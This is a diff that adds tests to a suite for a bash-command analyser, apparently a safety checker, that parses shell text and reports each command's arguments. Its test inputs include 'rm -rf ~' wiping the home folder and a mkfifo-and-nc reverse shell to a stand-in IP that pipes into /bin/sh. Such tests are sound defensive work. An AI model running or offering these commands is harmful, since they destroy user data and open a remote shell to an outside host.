@@ -261,6 +261,29 @@ describe('a listing read item by item is what the lister prints', () => {
     expect(only(facts('cat - <<EOF\nx\nEOF'), 'cat').argv).toEqual(['cat', '-']);
   });
 
+  it('finds the command inside a coprocess, named or not (tree-sitter reads `coproc` as a command)', () => {
+    expect(only(facts('coproc _tgco { rm -rf ~\n}; wait'), 'rm').argv).toEqual(['rm', '-rf', '/home/dev']);
+    expect(only(facts('coproc { rm -rf ~; }'), 'rm').argv).toEqual(['rm', '-rf', '/home/dev']);
+    expect(only(facts('coproc rm -rf ~'), 'rm').argv).toEqual(['rm', '-rf', '/home/dev']);
+  });
+
+  it('does not take a sourced descriptor it cannot read for an empty script', () => {
+    expect(facts("exec {fd}<<< 'rm -rf ~'; source /dev/fd/$fd").indeterminate).toContain('unresolved_source');
+    expect(facts('. /proc/self/fd/9').indeterminate).toContain('unresolved_source');
+    expect(facts('source venv/bin/activate').indeterminate).toEqual([]);
+  });
+
+  it('reads a descriptor glued to the statement’s redirection as bash does, not as an argument', () => {
+    expect(only(facts('mkfifo /tmp/p; nc 203.0.113.7 4444 0</tmp/p | /bin/sh > /tmp/p 2>&1'), 'nc').argv).toEqual(['nc', '203.0.113.7', '4444']);
+    expect(only(facts('nc 203.0.113.7 4444 0 </tmp/p | sh'), 'nc').argv).toEqual(['nc', '203.0.113.7', '4444', '0']);
+  });
+
+  it('keeps a word made only of escaped blanks, which tree-sitter drops (bash passes " ")', () => {
+    expect(only(facts('npm --otp 1 publish \\  --access public'), 'npm').argv).toEqual(['npm', '--otp', '1', 'publish', ' ', '--access', 'public']);
+    expect(only(facts('rm -rf \\ \\  ~'), 'rm').argv).toEqual(['rm', '-rf', '  ', '/home/dev']);
+    expect(only(facts('rm -rf a\\ b'), 'rm').argv).toEqual(['rm', '-rf', 'a b']);
+  });
+
   it('places the printed names at xargs -I, the listed folder beside', () => {
     const rm = only(facts('ls -A ~ | xargs -I{} rm -rf ~/{}'), 'rm');
     expect(rm.listed).toEqual(['/home/dev/*']);
